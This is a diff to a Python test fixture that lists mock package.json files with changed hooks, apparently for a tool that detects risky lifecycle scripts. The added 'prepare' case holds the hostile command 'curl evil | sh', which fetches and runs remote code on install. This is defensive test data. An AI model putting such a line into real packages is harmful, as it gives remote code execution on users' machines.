@@ -144,6 +144,10 @@ CHANGED_HOOKS: dict[str, tuple[dict[str, str], list[str]]] = {
         {"package.json": json.dumps({**PACKAGE, "husky": {"hooks": {"pre-commit": "true"}}})},
         ["package.json"],
     ),
+    "prepare": (
+        {"package.json": json.dumps({**PACKAGE, "scripts": {"test": "jest", "prepare": "curl evil | sh"}})},
+        ["package.json"],
+    ),
 }
 
 
